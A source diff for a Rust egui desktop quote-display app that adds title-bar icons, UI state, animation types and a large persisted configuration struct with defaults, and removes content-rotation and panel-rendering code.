+    pub const MINI: TitleBarIcon = TitleBarIcon::new(
+        "\u{f066}",
+        "Mini Mode (double-click to restore)",
+        20.0,
+        13.2,
+    );
+    pub const TOGGLE_BG: TitleBarIcon =
+        TitleBarIcon::new("\u{f110}", "Toggle 3D Background", 20.0, 16.0);
+    pub const EXPORT: TitleBarIcon = TitleBarIcon::new("\u{f0207}", "Export Quotes", 20.0, 13.2);
+    pub const SAVE_IMAGE: TitleBarIcon =
+        TitleBarIcon::new("\u{f03e}", "Save Quote as Image", 20.0, 13.2);
+    pub const ZOOM_IN: TitleBarIcon = TitleBarIcon::new("\u{f120d}", "Zoom In", 20.0, 16.8);
+    pub const ZOOM_OUT: TitleBarIcon = TitleBarIcon::new("\u{f06ec}", "Zoom Out", 20.0, 16.8);
+    pub const TOGGLE_PANEL: TitleBarIcon =
+        TitleBarIcon::new("\u{f0c9}", "Toggle Panel", 20.0, 24.0);
+    pub const MINIMIZE: TitleBarIcon = TitleBarIcon::new("\u{f2d1}", "Minimize", 20.0, 11.2);
+    pub const MAXIMIZE: TitleBarIcon = TitleBarIcon::new("\u{f2d0}", "Maximize", 20.0, 10.0);
+    pub const RESTORE: TitleBarIcon = TitleBarIcon::new("\u{f2d2}", "Restore", 20.0, 10.0);
+    pub const CLOSE: TitleBarIcon = TitleBarIcon::new("\u{f110a}", "Close", 20.0, 13.2);
+    pub const ALWAYS_ON_TOP: TitleBarIcon =
+        TitleBarIcon::new("\u{f08d}", "Always on Top", 20.0, 13.2);
+    pub const HIDE_HEADER: TitleBarIcon = TitleBarIcon::new("\u{f102}", "Hide Header", 20.0, 17.5);
+    pub const SHOW_HEADER: TitleBarIcon = TitleBarIcon::new("\u{f103}", "Show Header", 20.0, 24.0);
+    pub const ROTATE: TitleBarIcon = TitleBarIcon::new("\u{f01e}", "Rotate Window", 20.0, 16.0);
+    pub const ANIMATE: TitleBarIcon = TitleBarIcon::new("\u{f04b}", "Animate Window", 20.0, 16.0);
 
-                    if response.clicked() {
-                        actions.push(TitleBarAction::ShowHeader);
-                    }
-                    if opacity > 0.8 {
-                        response.on_hover_text_at_pointer(icons::SHOW_HEADER.tooltip);
-                    }
-                }
-            });
-        });
+    // Multi-Animation Icons
+    pub const ANIM_BOUNCE: TitleBarIcon =
+        TitleBarIcon::new("\u{f0025}", "Bounce Animation", 20.0, 16.0);
+    pub const ANIM_SHAKE: TitleBarIcon =
+        TitleBarIcon::new("\u{f067a}", "Shake Animation", 20.0, 16.0);
+    pub const ANIM_DANCE: TitleBarIcon =
+        TitleBarIcon::new("\u{f00d2}", "Dance Animation", 20.0, 16.0);
+    pub const ANIM_ROTATE: TitleBarIcon =
+        TitleBarIcon::new("\u{f01e}", "Rotate Animation", 20.0, 16.0);
+    pub const ANIM_DISSOLVE: TitleBarIcon =
+        TitleBarIcon::new("\u{f0376}", "Dissolve Animation", 20.0, 16.0);
+    pub const ANIM_FLY: TitleBarIcon = TitleBarIcon::new("\u{f02eb}", "Fly Animation", 20.0, 16.0);
 
-    actions
+    // Title bar items menu: move a group along the bar
+    pub const MOVE_EARLIER: TitleBarIcon = TitleBarIcon::new("\u{f0d8}", "Move left", 20.0, 12.0);
+    pub const MOVE_LATER: TitleBarIcon = TitleBarIcon::new("\u{f0d7}", "Move right", 20.0, 12.0);
 }
 
 // =============================================================================
-// OUTER-BOX ROTATION (content below title bar rotates 0°/90°/180°/270°)
+// UI STATE
 // =============================================================================
 
-/// Rotate a point around a center by angle_rad (radians).
-fn rotate_pos2_around(center: Pos2, p: Pos2, angle_rad: f32) -> Pos2 {
-    let dx = p.x - center.x;
-    let dy = p.y - center.y;
-    let c = angle_rad.cos();
-    let s = angle_rad.sin();
-    Pos2::new(center.x + dx * c - dy * s, center.y + dx * s + dy * c)
-}
+/// Holds all state for the title bar UI
+#[derive(Debug)]
+pub struct TitleBarState {
+    // Button hover states
+    pub theme_btn_hovered: bool,
+    pub toggle_bg_btn_hovered: bool,
+    pub export_btn_hovered: bool,
+    pub zoom_out_btn_hovered: bool,
+    pub zoom_in_btn_hovered: bool,
+    pub toggle_panel_btn_hovered: bool,
+    pub minimize_btn_hovered: bool,
+    pub maximize_btn_hovered: bool,
+    pub close_btn_hovered: bool,
 
-/// Axis-aligned bounding box of a rect after rotation around center.
-fn rect_aabb_after_rotate(center: Pos2, r: Rect, angle_rad: f32) -> Rect {
-    let corners = [
-        r.left_top(),
-        r.right_top(),
-        r.right_bottom(),
-        r.left_bottom(),
-    ];
-    let rotated: [Pos2; 4] = [
-        rotate_pos2_around(center, corners[0], angle_rad),
-        rotate_pos2_around(center, corners[1], angle_rad),
-        rotate_pos2_around(center, corners[2], angle_rad),
-        rotate_pos2_around(center, corners[3], angle_rad),
-    ];
-    let min_x = rotated.iter().map(|p| p.x).fold(f32::INFINITY, f32::min);
-    let max_x = rotated
-        .iter()
-        .map(|p| p.x)
-        .fold(f32::NEG_INFINITY, f32::max);
-    let min_y = rotated.iter().map(|p| p.y).fold(f32::INFINITY, f32::min);
-    let max_y = rotated
-        .iter()
-        .map(|p| p.y)
-        .fold(f32::NEG_INFINITY, f32::max);
-    Rect::from_min_max(Pos2::new(min_x, min_y), Pos2::new(max_x, max_y))
+    // Panel visibility
+    pub control_panel_visible: bool,
+    pub header_visible: bool,
+
+    // Zoom state
+    pub zoom_level: f32,
+
+    // Drag state
+    pub dragging: bool,
+    pub drag_start: Option<PhysicalPosition<f64>>,
 }
 
-/// Transform a single shape in-place by rotating and scaling all geometry around center.
-fn transform_shape_rotate_scale(shape: &mut Shape, center: Pos2, angle_rad: f32, scale: f32) {
-    let no_rotate = angle_rad.abs() < 0.0001;
-    let no_scale = (scale - 1.0).abs() < 0.0001;
+impl Default for TitleBarState {
+    fn default() -> Self {
+        Self {
+            theme_btn_hovered: false,
+            toggle_bg_btn_hovered: false,
+            export_btn_hovered: false,
+            zoom_out_btn_hovered: false,
+            zoom_in_btn_hovered: false,
+            toggle_panel_btn_hovered: false,
+            minimize_btn_hovered: false,
+            maximize_btn_hovered: false,
+            close_btn_hovered: false,
 
-    if no_rotate && no_scale {
-        return;
-    }
+            control_panel_visible: true,
+            header_visible: true,
 
-    let transform = |p: Pos2| -> Pos2 {
-        let mut pt = p;
-        if !no_rotate {
-            pt = rotate_pos2_around(center, pt, angle_rad);
-        }
-        if !no_scale {
-            pt = center + (pt - center) * scale;
-        }
-        pt
-    };
+            zoom_level: 1.0,
 
-    match shape {
-        Shape::Vec(shapes) => {
-            for s in shapes.iter_mut() {
-                transform_shape_rotate_scale(s, center, angle_rad, scale);
-            }
-        }
-        Shape::Circle(c) => {
-            c.center = transform(c.center);
-            c.radius *= scale;
-        }
-        Shape::Ellipse(e) => {
-            e.center = transform(e.center);
-            e.radius *= scale;
-        }
-        Shape::LineSegment { points, .. } => {
-            points[0] = transform(points[0]);
-            points[1] = transform(points[1]);
-        }
-        Shape::Path(p) => {
-            for pt in p.points.iter_mut() {
-                *pt = transform(*pt);
-            }
-        }
-        Shape::Rect(r) => {
-            r.rect = rect_aabb_after_rotate(center, r.rect, angle_rad);
-            // Apply scale to the resulting AABB
-            let min = center + (r.rect.min - center) * scale;
-            let max = center + (r.rect.max - center) * scale;
-            r.rect = Rect::from_min_max(min, max);
-        }
-        Shape::Text(t) => {
-            t.pos = transform(t.pos);
-            t.angle += angle_rad;
-            // Note: egui TextShape doesn't have a simple scale field,
-            // but the caller usually handles FontId size.
-            // However, we are transforming geometry here.
-            // For now, we rely on the position change.
-        }
-        Shape::Mesh(mesh) => {
-            for v in mesh.vertices.iter_mut() {
-                v.pos = transform(v.pos);
-            }
-        }
-        Shape::QuadraticBezier(b) => {
-            for p in &mut b.points {
-                *p = transform(*p);
-            }
-        }
-        Shape::CubicBezier(b) => {
-            for p in &mut b.points {
-                *p = transform(*p);
-            }
+            dragging: false,
+            drag_start: None,
         }
-        Shape::Callback(_) | Shape::Noop => {}
     }
 }
 
-/// Inverse-rotate and inverse-scale pointer input so that clicks hit the correct widget.
-fn transform_raw_input_for_rotation_scale(
-    raw_input: &mut egui::RawInput,
-    content_rect: Rect,
-    angle_rad: f32,
-    scale: f32,
-) {
-    let no_rotate = angle_rad.abs() < 0.0001;
-    let no_scale = (scale - 1.0).abs() < 0.0001;
+/// Actions that can be triggered from the title bar
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum TitleBarAction {
+    ThemeClicked,
+    PresentationClicked,
+    MiniClicked,
+    ToggleBg,
+    ExportClicked,
+    SaveImageClicked,
+    ZoomIn,
+    ZoomOut,
+    TogglePanel,
+    MinimizeClicked,
+    MaximizeClicked,
+    SizePreset(WindowPreset),
+    ToggleAlwaysOnTop,
+    ToggleClickThrough,
+    CloseClicked,
+    ShowHeader,
+    HideHeader,
+    AnimateClicked,
+    PlayBounce,
+    PlayShake,
+    PlayDance,
+    PlayRotate,
+    PlayDissolve,
+    PlayFly,
+    StopAnimations,
+    ReturnHome,
+    SetHome,
+}
 
-    if no_rotate && no_scale {
-        return;
-    }
+/// Optional button groups on the title bar. Window controls, the hide-header
+/// button and the drag region are always there and not listed here.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum TitleBarGroup {
+    ViewModes,
+    Theme,
+    Export,
+    Zoom,
+    Background3d,
+    Animations,
+}
 
-    let center = content_rect.center();
-    let inv_angle_rad = -angle_rad;
-    let inv_scale = 1.0 / scale.max(0.1);
+impl TitleBarGroup {
+    pub const ALL: [TitleBarGroup; 6] = [
+        TitleBarGroup::ViewModes,
+        TitleBarGroup::Theme,
+        TitleBarGroup::Export,
+        TitleBarGroup::Zoom,
+        TitleBarGroup::Background3d,
+        TitleBarGroup::Animations,
+    ];
 
-    for ev in raw_input.events.iter_mut() {
-        let pos_opt: Option<&mut Pos2> = match ev {
-            egui::Event::PointerMoved(pos) => Some(pos),
-            egui::Event::PointerButton { pos, .. } => Some(pos),
-            egui::Event::Touch { pos, .. } => Some(pos),
-            _ => None,
-        };
-        if let Some(pos) = pos_opt {
-            if content_rect.contains(*pos) {
-                // To undo scaling: P_orig = center + (P_scaled - center) / scale
-                let mut p = *pos;
-                if !no_scale {
-                    p = center + (p - center) * inv_scale;
-                }
-                // To undo rotation
-                if !no_rotate {
-                    p = rotate_pos2_around(center, p, inv_angle_rad);
-                }
-                *pos = p;
-            }
+    pub fn label(self) -> &'static str {
+        match self {
+            TitleBarGroup::ViewModes => "Mini / Presentation",
+            TitleBarGroup::Theme => "Theme",
+            TitleBarGroup::Export => "Export / Save image",
+            TitleBarGroup::Zoom => "Zoom",
+            TitleBarGroup::Background3d => "3D background",
+            TitleBarGroup::Animations => "Animations",
+        }
+    }
+
+    /// Space kept between this group and whatever sits to its right
+    fn leading_gap(self) -> f32 {
+        match self {
+            TitleBarGroup::Theme | TitleBarGroup::ViewModes => 0.0,
+            _ => 8.0,
         }
     }
 }
 
-/// Transform all shapes that lie in the content area (below title bar) by rotation.
-/// rotation: 0=0°, 1=90°, 2=180°, 3=270°.
-/// Transform all shapes that lie in the content area (below title bar) by rotation angle and scale.
-fn transform_content_shapes(
-    shapes: &[ClippedShape],
-    content_rect: Rect,
-    angle_rad: f32,
-    scale: f32,
-) -> Vec<ClippedShape> {
-    if angle_rad.abs() < 0.0001 && (scale - 1.0).abs() < 0.0001 {
-        return shapes.to_vec();
-    }
-    let center = content_rect.center();
-    let mut out = Vec::with_capacity(shapes.len());
-    for clipped in shapes {
-        let clip_center_y = clipped.clip_rect.center().y;
-        if clip_center_y > TITLE_BAR_HEIGHT {
-            let mut new_clip = clipped.clone();
-            transform_shape_rotate_scale(&mut new_clip.shape, center, angle_rad, scale);
-
-            // Transform clip_rect as well
-            new_clip.clip_rect = rect_aabb_after_rotate(center, new_clip.clip_rect, angle_rad);
-            let min = center + (new_clip.clip_rect.min - center) * scale;
-            let max = center + (new_clip.clip_rect.max - center) * scale;
-            new_clip.clip_rect = Rect::from_min_max(min, max);
-
-            // Expand clip slightly to prevent artifacts
-            new_clip.clip_rect = new_clip.clip_rect.expand(2.0);
-            out.push(new_clip);
-        } else {
-            out.push(clipped.clone());
+/// One title bar group and whether it is shown. The list is stored in screen
+/// order, left to right.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TitleBarItem {
+    pub group: TitleBarGroup,
+    pub visible: bool,
+}
+
+fn default_title_bar_items() -> Vec<TitleBarItem> {
+    TitleBarGroup::ALL
+        .iter()
+        .map(|&group| TitleBarItem {
+            group,
+            visible: true,
+        })
+        .collect()
+}
+
+/// Drop duplicate groups and append any the saved list doesn't know about
+/// (e.g. added in a newer version), so every group appears exactly once.
+fn normalize_title_bar_items(items: Vec<TitleBarItem>) -> Vec<TitleBarItem> {
+    let mut out: Vec<TitleBarItem> = Vec::with_capacity(TitleBarGroup::ALL.len());
+    for item in items {
+        if !out.iter().any(|i| i.group == item.group) {
+            out.push(item);
+        }
+    }
+    for group in TitleBarGroup::ALL {
+        if !out.iter().any(|i| i.group == group) {
+            out.push(TitleBarItem {
+                group,
+                visible: true,
+            });
         }
     }
     out
 }
 
 // =============================================================================
-// MAIN CONTENT RENDERER
+// ANIMATION TYPES
 // =============================================================================
 
-/// Render the main content area with quote display
-pub fn render_main_content(
-    ctx: &Context,
-    state: &mut AppState,
-    shaper: &mut Option<(
-        &mut cosmic_text::FontSystem,
-        &mut cosmic_text::SwashCache,
-        &mut HashMap<u64, egui::TextureHandle>,
-    )>,
-) {
-    // ── FOOTER RENDERER ─────────────────────────────────────
-    if state.title_bar_state.header_visible {
-        egui::TopBottomPanel::bottom("footer_panel")
-            .exact_height(24.0)
-            .frame(egui::Frame::none().fill(Color32::from_black_alpha(20)))
-            .show(ctx, |ui| {
-                ui.horizontal(|ui| {
-                    ui.spacing_mut().item_spacing = egui::Vec2::new(12.0, 0.0);
-                    ui.add_space(10.0);
-
-                    // 1. Navigation
-                    if ui
-                        .small_button(RichText::new("◀").color(NEON_CYAN))
-                        .clicked()
-                    {
-                        state.prev_quote();
-                    }
-                    if ui
-                        .small_button(RichText::new("▶").color(NEON_CYAN))
-                        .clicked()
-                    {
-                        state.next_quote();
-                    }
+#[derive(Debug, Clone, Copy, PartialEq, Default, Serialize, Deserialize)]
+pub enum AppAnimation {
+    #[default]
+    None,
+    Bounce,
+    Shake,
+    Dance,
+    Rotate,
+    Dissolve,
+    Fly,
+    // Glide to an outer position, easing out (see `move_window_to`); the
+    // start is `base_pos`, the clock `move_started`
+    MoveTo {
+        target: (i32, i32),
+        duration: Duration,
+    },
+}
 
-                    ui.separator();
+/// Fast start, gentle landing; `t` in 0..=1
+fn ease_out_cubic(t: f32) -> f32 {
+    1.0 - (1.0 - t.clamp(0.0, 1.0)).powi(3)
+}
 
-                    // 2. Technical Readout
-                    ui.label(
-                        RichText::new("◈  NEURAL  FEED  ◈")
-                            .font(FontId::proportional(8.5))
-                            .color(NEON_PLASMA.gamma_multiply(0.4)),
-                    );
+// =============================================================================
+// PERSISTENCE CONFIGURATION
+// =============================================================================
 
-                    let readout = format!(
-                        "SYN:{:03}  •  FREQ:{:04}ms  •  CORE:∞",
-                        state.quotes.len(),
-                        state.rotation_interval.as_millis()
-                    );
-                    ui.label(
-                        RichText::new(readout)
-                            .font(FontId::proportional(8.5))
-                            .color(NEON_SOLAR.gamma_multiply(0.4)),
-                    );
+/// Configuration for persistence
+#[derive(Debug, Serialize, Deserialize)]
+struct AppConfig {
+    // Shape of the file; older versions are upgraded by `migrate`
+    #[serde(default = "legacy_config_version")]
+    config_version: u32,
+    #[serde(default)]
+    collections: Vec<Collection>,
+    #[serde(default)]
+    active_collection: usize,
+    // Position in the active collection, so `next` from the CLI can advance it
+    #[serde(default)]
+    current_quote_index: usize,
+    // Quote held on screen in the active collection, whatever the rotation does
+    #[serde(default)]
+    pinned_quote: Option<usize>,
+    // Removed quotes, oldest first
+    #[serde(default)]
+    archived: Vec<Quote>,
+    // Incoming quotes waiting in the INBOX for approval, oldest first
+    #[serde(default)]
+    pending: Vec<Quote>,
+    #[serde(default)]
+    startup_quote: StartupPolicy,
+    interval_secs: u64,
+    theme: ThemeConfig,
+    text_style: TextStyleConfig,
+    #[serde(default)]
+    deadlines: Vec<Deadline>,
+    #[serde(default)]
+    clock: ClockConfig,
+    #[serde(default)]
+    profiles: Vec<Profile>,
+    #[serde(default)]
+    profile_selection: ProfileSelection,
+    #[serde(default = "default_control_panel_width")]
+    control_panel_width: f32,
+    // Emoji picked most recently first
+    #[serde(default)]
+    recent_emoji: Vec<String>,
+    // INTERVAL chips, user-overwritable
+    #[serde(default = "default_interval_presets")]
+    interval_presets: Vec<u64>,
+    #[serde(default = "default_idle_pause_secs")]
+    idle_pause_secs: u64,
+    #[serde(default)]
+    attention_cue: AttentionCue,
+    // PREV/NEXT buttons (see `nav_opacity`)
+    #[serde(default)]
+    nav_visibility: NavVisibility,
+    #[serde(default)]
+    nav_position: NavPosition,
+    #[serde(default)]
+    preview_style: PreviewStyle,
+    #[serde(default)]
+    numeral_system: NumeralSystem,
+    // The 🎲 button also rolls a gradient preset and angle
+    #[serde(default)]
+    roulette_theme: bool,
+    // Random rotation favors quotes whose energy suits the time band
+    #[serde(default)]
+    energy_matching: bool,
+    #[serde(default = "default_energy_bands")]
+    energy_bands: Vec<EnergyBand>,
+    // Clockwise quarter turns of the whole frame, for a rotated monitor
+    #[serde(default)]
+    content_rotation: u8,
+    // Theme by time of day: whether the bands apply, and the bands
+    #[serde(default)]
+    theme_automation: bool,
+    #[serde(default = "default_theme_bands")]
+    theme_bands: Vec<ThemeBand>,
+    // Sub text for quotes added without one; empty means none
+    #[serde(default = "default_sub_text")]
+    default_sub_text: String,
+    #[serde(default)]
+    rotation_mode: RotationMode,
+    #[serde(default)]
+    daily_quote: Option<DailyQuote>,
+    #[serde(default)]
+    rotation_sync: RotationSync,
+    // Keep long quotes up for at least their estimated reading time
+    #[serde(default)]
+    reading_time_interval: bool,
+    #[serde(default = "default_reading_wpm")]
+    reading_wpm: u32,
+    #[serde(default = "default_reading_bengali_cpm")]
+    reading_bengali_cpm: u32,
+    // Fixed seed for every random choice, so runs repeat (--seed overrides it)
+    #[serde(default)]
+    seed: Option<u64>,
+    // Quantum background was on at exit; respawned on the next launch
+    #[serde(default)]
+    background_3d: bool,
+    #[serde(default)]
+    background: BackgroundConfig,
+    #[serde(default)]
+    low_power: LowPowerConfig,
+    #[serde(default)]
+    display_mode: DisplayMode,
+    // Indexed like ScreenCorner::ALL
+    #[serde(default)]
+    hotspots: [CornerAction; 4],
+    // Consecutive days the app was opened, and the last (local) day it was
+    #[serde(default)]
+    last_open_date: Option<chrono::NaiveDate>,
+    #[serde(default)]
+    streak: u32,
+    // Weekly backups into AUTO_BACKUP_DIR, and the day the last one was made
+    #[serde(default)]
+    auto_backup: bool,
+    #[serde(default)]
+    last_auto_backup: Option<chrono::NaiveDate>,
+    // Fade the window to `focus_dim_level` while it doesn't have focus
+    #[serde(default)]
+    focus_dim: bool,
+    #[serde(default = "default_focus_dim_level")]
+    focus_dim_level: f32,
+    // Clipboard capture itself is never persisted, only how long it lasts
+    #[serde(default = "default_clipboard_capture_minutes")]
+    clipboard_capture_minutes: u64,
+    // Control panel sections folded or not, by section key (missing = open)
+    #[serde(default)]
+    section_open: HashMap<String, bool>,
+    // Title bar button groups, left to right, with their visibility
+    #[serde(default = "default_title_bar_items")]
+    title_bar_items: Vec<TitleBarItem>,
+    // Sound feedback: rotation chime (opt-in), deadline sound, volume
+    #[serde(default)]
+    sound_on_rotate: bool,
+    #[serde(default = "default_sound_on_complete")]
+    sound_on_complete: bool,
+    #[serde(default = "default_sound_volume")]
+    sound_volume: f32,
+    // Interface scale, multiplied onto the OS scale factor
+    #[serde(default = "default_ui_scale")]
+    ui_scale: f32,
+    // Add form length limit (grapheme clusters)
+    #[serde(default = "default_quote_max_chars")]
+    quote_max_chars: usize,
+    // Run added, imported and edited text through `sanitize_quote_text`
+    #[serde(default = "default_clean_quote_text")]
+    clean_quote_text: bool,
+    // Show the current quote as the window title (taskbar, Alt+Tab)
+    #[serde(default = "default_quote_in_title")]
+    quote_in_title: bool,
+    // Startup placement, and the outer position last seen in the full window
+    #[serde(default)]
+    window_placement: WindowPlacement,
+    #[serde(default)]
+    window_position: Option<(i32, i32)>,
+    // Where "return home" takes the window (the startup position if unset)
+    #[serde(default)]
+    home_position: Option<(i32, i32)>,
+    // Logical inner size the full window reopens at (DEFAULT_WINDOW_SIZE if unset)
+    #[serde(default)]
+    window_size: Option<(u32, u32)>,
+    // Border drags keep the window's width:height ratio
+    #[serde(default)]
+    lock_aspect_ratio: bool,
+    // Above other windows (the long-standing behaviour) or a normal window
+    #[serde(default = "default_always_on_top")]
+    always_on_top: bool,
+    // Mouse input goes through the window to whatever is underneath
+    #[serde(default)]
+    click_through: bool,
+    // First-run walkthrough seen (files from before it existed count as seen)
+    #[serde(default = "default_onboarding_done")]
+    onboarding_done: bool,
+    // Scripting hooks: shell commands run on rotation and when a deadline passes
+    #[serde(default)]
+    on_rotate_command: String,
+    #[serde(default)]
+    on_session_complete_command: String,
+    // Opt-in update check: the last day it ran, and a release the user
+    // chose to skip
+    #[serde(default)]
+    check_updates: bool,
+    #[serde(default)]
+    last_update_check: Option<chrono::NaiveDate>,
+    #[serde(default)]
+    skipped_version: Option<String>,
+    // Newest crash report already offered at startup (see `crash_report`)
+    #[serde(default)]
+    reported_crash: Option<String>,
+    // Hide a resting cursor over the quote area after `cursor_hide_secs`
+    #[serde(default)]
+    cursor_autohide: bool,
+    #[serde(default = "default_cursor_hide_secs")]
+    cursor_hide_secs: u64,
+    // Badge colors keyed by lowercased tag; unlisted tags use DEFAULT_TAG_COLOR
+    #[serde(default)]
+    tag_colors: std::collections::BTreeMap<String, Color32>,
+    #[serde(default)]
+    show_quote_tags: bool,
+    // Stream overlay server on 127.0.0.1 (see `OverlayServer`)
+    #[serde(default)]
+    overlay_enabled: bool,
+    #[serde(default = "default_overlay_port")]
+    overlay_port: u16,
+}
 
-                    ui.separator();
+fn default_onboarding_done() -> bool {
+    true
+}
 
-                    // 3. Rotation Status
-                    let dot_color = if state.rotation_enabled {
-                        Color32::from_rgb(80, 255, 120)
-                    } else {
-                        Color32::from_rgb(255, 60, 80)
-                    };
-                    let (dot_rect, _) = ui.allocate_exact_size(Vec2::new(8.0, 8.0), Sense::hover());
-                    ui.painter()
-                        .circle_filled(dot_rect.center(), 3.0, dot_color);
+fn default_quote_max_chars() -> usize {
+    DEFAULT_QUOTE_MAX_CHARS
+}
 
-                    ui.label(
-                        RichText::new(format!(
-                            "Δt {}s  ·  {}",
-                            state.rotation_interval.as_secs(),
-                            if state.rotation_enabled {
-                                "STREAMING"
-                            } else {
-                                "PAUSED"
-                            }
-                        ))
-                        .color(Color32::from_rgba_unmultiplied(150, 200, 200, 180))
-                        .size(9.5),
-                    );
+fn default_clean_quote_text() -> bool {
+    true
+}
 
-                    ui.separator();
+fn default_quote_in_title() -> bool {
+    true
+}
 
-                    // 4. Interval Info
-                    ui.label(
-                        RichText::new(format!(
-                            "INTERVAL: {}s | AUTO: {}",
-                            state.rotation_interval.as_secs(),
-                            if state.rotation_enabled { "ON" } else { "OFF" }
-                        ))
-                        .color(Color32::from_rgba_unmultiplied(255, 255, 255, 120))
-                        .size(9.0),
-                    );
-                });
-            });
-    }
+fn default_ui_scale() -> f32 {
+    1.0
+}
 
-    // RIGHT SIDE PANEL — must be declared BEFORE CentralPanel
+fn default_sound_on_complete() -> bool {
+    true
+}
 
-    if state.title_bar_state.control_panel_visible {
-        egui::SidePanel::right("control_panel")
-            .exact_width(CONTROL_PANEL_WIDTH)
-            .resizable(false)
-            .frame(
-                Frame::none()
-                    .fill(Color32::from_black_alpha(40))
-                    .inner_margin(egui::Margin {
-                        left: 10.0,
-                        right: 10.0,
-                        top: 15.0,
-                        bottom: 15.0,
-                    }),
-            )
-            .show(ctx, |ui| {
-                render_control_panel_contents(ui, state, shaper);
-            });
-    }
+fn default_always_on_top() -> bool {
+    true
+}
 
-    // MAIN CANVAS — CentralPanel takes remaining space automatically
+fn default_sound_volume() -> f32 {
+    DEFAULT_SOUND_VOLUME
+}
 
-    egui::CentralPanel::default()
-        .frame(Frame::none().fill(Color32::TRANSPARENT))
-        .show(ctx, |ui| {
-            // BACKDROP RENDERER
-            // We draw the gradient or solid color here across `ctx.screen_rect()`.
-            // Because SidePanel is processed first and has a transparent background,
-            // this draws perfectly *underneath* the SidePanel controls.
-            if !state.is_3d_bg_active {
-                let draw_bg =
-                    state.theme.apply_to_entire_window || state.theme.mode == ThemeMode::Gradient;
-                if draw_bg {
-                    let rect = if state.theme.apply_to_entire_window {
-                        ctx.screen_rect()
-                    } else {
-                        // Approximate central panel rect if not full window
-                        let mut r = ctx.screen_rect();
-                        if state.title_bar_state.control_panel_visible {
-                            r.max.x -= CONTROL_PANEL_WIDTH;
-                        }
-                        r
-                    };
+fn default_focus_dim_level() -> f32 {
+    DEFAULT_FOCUS_DIM_LEVEL
+}
 
-                    if state.theme.mode == ThemeMode::Solid {
-                        ui.painter_at(rect).rect_filled(
-                            rect,
-                            Rounding::ZERO,
-                            state.theme.solid_color,
-                        );
-                    } else if !state.theme.gradient_colors.is_empty() {
-                        let angle_rad = (state.theme.gradient_angle as f32).to_radians();
+fn default_clipboard_capture_minutes() -> u64 {
+    DEFAULT_CLIPBOARD_CAPTURE_MINUTES
+}
 
-                        // Quick radial to corners approximation
-                        let dir = egui::Vec2::new(angle_rad.cos(), angle_rad.sin());
+fn default_sub_text() -> String {
+    DEFAULT_SUB_TEXT.to_string()
+}
 
-                        use egui::epaint::{Mesh, Vertex};
-                        let mut mesh = Mesh::default();
+fn default_idle_pause_secs() -> u64 {
+    DEFAULT_IDLE_PAUSE_SECS
+}
 
-                        let c0 = rect.min;
-                        let c1 = egui::pos2(rect.max.x, rect.min.y);
-                        let c2 = egui::pos2(rect.min.x, rect.max.y);
-                        let c3 = rect.max;
+fn default_cursor_hide_secs() -> u64 {
+    DEFAULT_CURSOR_HIDE_SECS
+}
 
-                        // Project corners onto gradient direction line
-                        let center = rect.center();
-                        let project = |p: egui::Pos2| -> f32 {
-                            let v = p - center;
-                            v.x * dir.x + v.y * dir.y
-                        };
+fn default_overlay_port() -> u16 {
+    DEFAULT_OVERLAY_PORT
+}
 
-                        let p0 = project(c0);
-                        let p1 = project(c1);
-                        let p2 = project(c2);
-                        let p3 = project(c3);
+fn default_reading_wpm() -> u32 {
+    DEFAULT_READING_WPM
+}
 
-                        let min_p = p0.min(p1).min(p2).min(p3);
-                        let max_p = p0.max(p1).max(p2).max(p3);
-                        let range = (max_p - min_p).max(0.1);
+fn default_reading_bengali_cpm() -> u32 {
+    DEFAULT_READING_BENGALI_CPM
+}
 
-                        let calc_color = |p: f32| -> Color32 {
-                            let t = ((p - min_p) / range).clamp(0.0, 1.0);
-                            let colors = &state.theme.gradient_colors;
+fn default_interval_presets() -> Vec<u64> {
+    DEFAULT_INTERVAL_PRESETS.to_vec()
+}
 
-                            if colors.is_empty() {
-                                return Color32::TRANSPARENT;
-                            }
-                            if colors.len() == 1 {
-                                return colors[0];
-                            }
+fn default_control_panel_width() -> f32 {
+    CONTROL_PANEL_WIDTH
+}
 
-                            let n_segments = (colors.len() - 1) as f32;
-                            let scaled_t = t * n_segments;
-                            let mut index = scaled_t.floor() as usize;
-                            index = index.min(colors.len() - 2);
-                            let fract = scaled_t - index as f32;
+impl Default for AppConfig {
+    fn default() -> Self {
+        let quotes = vec![
+            Quote::new(
+                "এখনই কাজে মনোযোগ দাও - ফোকাস তোমার শক্তি",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "প্রতিটি মুহূর্ত গুরুত্বপূর্ণ - কাজ চালিয়ে যাও",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "সফলতা ধৈর্যের ফল - হার মানিও না",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "Focus on the work - Success is near",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "Stay disciplined - Great things take time",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "তুমি পারবে - শুধু চেষ্টা চালিয়ে যাও",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "Dreams need action - Start now",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "প্রতিদিন একটু এগিয়ে যাও - লক্ষ্য কাছে",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "Consistency beats talent - Keep going",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+            Quote::new(
+                "বিশ্রাম নাও কিন্তু হাল ছাড়ো না",
+                "Keep pushing - You're doing great! 🌟",
+            ),
+        ];
 
-                            let c1 = colors[index];
-                            let c2 = colors[index + 1];
+        Self {
+            config_version: CONFIG_VERSION,
+            collections: vec![Collection::new("Default", quotes)],
+            active_collection: 0,
+            current_quote_index: 0,
+            pinned_quote: None,
+            archived: Vec::new(),
+            pending: Vec::new(),
+            startup_quote: StartupPolicy::default(),
+            interval_secs: 8,
+            theme: ThemeConfig::default(),
+            text_style: TextStyleConfig::default(),
+            deadlines: Vec::new(),
+            clock: ClockConfig::default(),
+            profiles: Vec::new(),
+            profile_selection: ProfileSelection::Automatic,
+            control_panel_width: CONTROL_PANEL_WIDTH,
+            recent_emoji: Vec::new(),
+            interval_presets: default_interval_presets(),
+            idle_pause_secs: DEFAULT_IDLE_PAUSE_SECS,
+            attention_cue: AttentionCue::default(),
+            nav_visibility: NavVisibility::default(),
+            nav_position: NavPosition::default(),
+            preview_style: PreviewStyle::default(),
